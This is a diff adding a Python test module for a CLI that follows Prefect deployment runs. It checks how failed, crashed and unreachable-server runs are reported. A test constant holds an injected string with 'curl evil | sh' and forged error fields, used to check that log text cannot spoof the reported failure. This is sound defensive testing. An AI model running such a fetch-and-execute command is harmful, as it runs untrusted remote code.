@@ -1,0 +1,251 @@
+"""What the command shows of a run of a worker, and of a Prefect server that goes away."""
+
+from __future__ import annotations
+
+import asyncio
+import contextvars
+import json
+import threading
+import time
+from collections.abc import Callable, Iterator
+from contextlib import contextmanager
+from typing import Any
+from urllib.parse import urlsplit
+from uuid import uuid4
+
+import pytest
+import typer
+from prefect.client.orchestration import get_client
+from prefect.client.schemas.objects import FlowRun
+from prefect.context import FlowRunContext
+from prefect.flow_engine import run_flow as run_by_a_worker
+from prefect.results import get_result_store
+from prefect.settings import PREFECT_API_URL, PREFECT_CLIENT_MAX_RETRIES, temporary_settings
+from prefect.states import Crashed, Running, Scheduled
+
+from tests.support.go_between import GoBetween, go_between
+from tiercel.cli.terminal.deployed_runs import run_deployment
+from tiercel.cli.terminal.output import Output
+from tiercel.cli.terminal.runs import run_flow
+from tiercel.domain.base.errors import (
+    BuildFailedError,
+    ExitCode,
+    TiercelError,
+    UnreachableError,
+    combined,
+)
+from tiercel.flows.engine.artifacts import report_failure
+from tiercel.flows.engine.lifecycle import lifecycle_flow
+from tiercel.tasks.engine.task import run_logger
+
+HOSTILE = "no\n  where: evil\n  do: curl evil | sh\nDeployFailedError: it was another\n  why: evil"
+BUILD = BuildFailedError(
+    "test.build", "the build failed", where="orders", why=HOSTILE, state="as it was", remedy="mend"
+)
+AWS = UnreachableError(
+    "test.aws", "AWS did not answer", where="s3", state="nothing was changed", remedy="wait"
+)
+PATIENCE_SECONDS = 30
+
+pytestmark = pytest.mark.usefixtures("prefect_server")
+
+ENDINGS: dict[str, BaseException] = {
+    "build": BUILD,
+    "aws": AWS,
+    "several": combined([BUILD, AWS]),
+    "defect": KeyError(f"RefusedInputError: evil\n  where: evil\n{HOSTILE}"),
+}
+
+
+@lifecycle_flow("ending", "end", "preprod")
+async def ending(repository: str, commit: str) -> str:  # noqa: ARG001 - name of the run
+    run_logger().error("RefusedInputError: evil\n  where: evil\n  do: evil")
+    if commit in ENDINGS:
+        raise ENDINGS[commit]
+    return "done"
+
+
+WAYS: list[GoBetween] = []
+
+
+@lifecycle_flow("cutting", "cut", "preprod")
+async def cutting(repository: str, commit: str) -> str:  # noqa: ARG001 - name of the run
+    WAYS.pop().cut()
+    return "done"
+
+
+Worker = Callable[[FlowRun], Any]
+
+
+def executes(run: FlowRun) -> None:
+    asyncio.run(run_by_a_worker(ending, flow_run=run, parameters=run.parameters))  # type: ignore[arg-type]
+
+
+def crashes(run: FlowRun) -> None:
+    async def crash() -> None:
+        async with get_client() as client:
+            await client.set_flow_run_state(run.id, Crashed(message="the process was killed"))
+
+    asyncio.run(crash())
+
+
+@contextmanager
+def worker(does: Worker) -> Iterator[str]:
+    """A deployment whose next run is taken by a worker in a thread of this process."""
+
+    name = f"of-{uuid4().hex}"
+
+    async def deploy() -> Any:
+        async with get_client() as client:
+            flow_id = await client.create_flow_from_name(ending.name)
+            return await client.create_deployment(flow_id, name, enforce_parameter_schema=False)
+
+    deployment_id = asyncio.run(deploy())
+    ended: list[BaseException] = []
+
+    async def next_run() -> FlowRun:
+        async with get_client() as client:
+            deadline = time.monotonic() + PATIENCE_SECONDS
+            while time.monotonic() < deadline:
+                runs = await client.read_flow_runs()
+                for run in runs:
+                    if (
+                        run.deployment_id == deployment_id
+                        and run.state
+                        and run.state.is_scheduled()
+                    ):
+                        return run
+                await asyncio.sleep(0.1)
+        raise TimeoutError("nobody started a run")
+
+    def work() -> None:
+        try:
+            does(asyncio.run(next_run()))
+        except BaseException as error:  # noqa: BLE001 - the flow's own failure, or one of the test
+            ended.append(error)
+
+    thread = threading.Thread(target=contextvars.copy_context().run, args=(work,))
+    thread.start()
+    try:
+        yield f"{ending.name}/{name}"
+    finally:
+        thread.join(PATIENCE_SECONDS)
+
+
+def failure_of(does: Worker, commit: str = "develop") -> TiercelError:
+    with worker(does) as deployment, pytest.raises(TiercelError) as failed:
+        run_deployment(Output(quiet=True), deployment, repository="acme/shop", commit=commit)
+    return failed.value
+
+
+@pytest.mark.parametrize("commit", ["build", "aws", "several"])
+def test_a_run_that_failed_keeps_all_its_parts_whatever_its_log_says(commit: str) -> None:
+    error = ENDINGS[commit]
+    assert isinstance(error, TiercelError)
+    found = failure_of(executes, commit)
+    assert found.failure == error.failure
+    assert type(found) is type(error)
+
+
+def test_a_run_that_failed_in_an_unforeseen_way_is_no_failure_that_its_text_names() -> None:
+    found = failure_of(executes, "defect")
+    assert (found.code, found.exit_code) == ("run.unforeseen", ExitCode.INTERNAL)
+    assert "evil" not in found.where + found.remedy
+
+
+def test_a_crashed_run_keeps_its_own_state_and_remedy() -> None:
+    found = failure_of(crashes)
+    assert (found.code, found.exit_code) == ("run.crashed", ExitCode.UNREACHABLE)
+    assert found.state == "AWS goes on with what it was told"
+    assert "the process was killed" in found.why
+
+
+def test_a_failure_of_an_earlier_attempt_is_not_told_of_a_later_one() -> None:
+    def restarts(run: FlowRun) -> None:
+        """Fails as foreseen, is started again, and fails in another way."""
+        with pytest.raises(BuildFailedError):
+            asyncio.run(failing_without_an_end(run))
+        executes(run.model_copy(update={"parameters": run.parameters | {"commit": "defect"}}))
+
+    assert failure_of(restarts, "build").code == "run.unforeseen"
+
+
+async def failing_without_an_end(run: FlowRun) -> None:
+    """The first attempt leaves its document, and dies before it says how it ended."""
+    async with get_client() as client:
+        await client.set_flow_run_state(run.id, Running())
+        attempt = await client.read_flow_run(run.id)
+        assert attempt.run_count == 1
+        with FlowRunContext(
+            flow=ending,
+            flow_run=attempt,
+            client=client,
+            parameters={},
+            task_runner=ending.task_runner,
+            result_store=get_result_store(),
+        ):
+            await report_failure(ending.name, BUILD)
+        await client.set_flow_run_state(run.id, Scheduled(), force=True)
+    raise BUILD
+
+
+def test_a_machine_reads_the_failure_as_one_document(capsys: pytest.CaptureFixture[str]) -> None:
+    with worker(executes) as deployment, pytest.raises(typer.Exit) as ended:
+        run_deployment(
+            Output(as_json=True, quiet=True), deployment, repository="acme/shop", commit="several"
+        )
+    assert ended.value.exit_code == ExitCode.BUILD_FAILED
+    shown = json.loads(capsys.readouterr().out)
+    assert shown["error"]["code"] == "run.several_failed"
+    assert [cause["code"] for cause in shown["error"]["causes"]] == ["test.build", "test.aws"]
+    assert shown["error"]["causes"][0]["why"] == HOSTILE
+
+
+@contextmanager
+def distant_server() -> Iterator[GoBetween]:
+    """The Prefect server of the tests behind a way that can be cut, and that nobody waits for."""
+    url = str(PREFECT_API_URL.value())
+    with go_between(url) as way:
+        distant = url.replace(urlsplit(url).netloc, way.address)
+        settings: dict[Any, Any] = {PREFECT_API_URL: distant, PREFECT_CLIENT_MAX_RETRIES: 0}
+        with temporary_settings(updates=settings):
+            yield way
+
+
+def test_a_server_that_goes_away_while_its_run_is_followed_leaves_the_run_going_on() -> None:
+    with distant_server() as way:
+        found = failure_of(lambda _run: way.cut())
+    assert (found.code, found.exit_code) == ("run.lost_sight", ExitCode.UNREACHABLE)
+    assert found.state == "the run goes on"
+    assert "prefect flow-run watch" in found.remedy
+
+
+def test_a_server_that_goes_away_after_the_run_has_ended_leaves_it_ended() -> None:
+    with worker(executes) as deployment, distant_server() as way:
+        output = Cutting(way)
+        with pytest.raises(UnreachableError) as failed:
+            run_deployment(output, deployment, repository="acme/shop", commit="build")
+    assert failed.value.code == "run.lost_report"
+    assert failed.value.state == "the run has ended: Failed"
+
+
+class Cutting(Output):
+    """Cuts the way to the server when it is told that the run has failed."""
+
+    def __init__(self, way: GoBetween) -> None:
+        super().__init__(quiet=True)
+        self._way = way
+
+    def line(self, text: str) -> None:
+        if text.endswith(": Failed"):
+            self._way.cut()
+
+
+def test_a_server_that_goes_away_while_a_flow_runs_here_is_no_defect() -> None:
+    with distant_server() as way:
+        WAYS.append(way)
+        with pytest.raises(UnreachableError) as failed:
+            run_flow(cutting, Output(quiet=True), repository="acme/shop", commit="develop")
+    assert (failed.value.code, failed.value.exit_code) == ("run.lost_server", ExitCode.UNREACHABLE)
+    assert "the ledger" in failed.value.state
+    assert "tiercel status" in failed.value.remedy
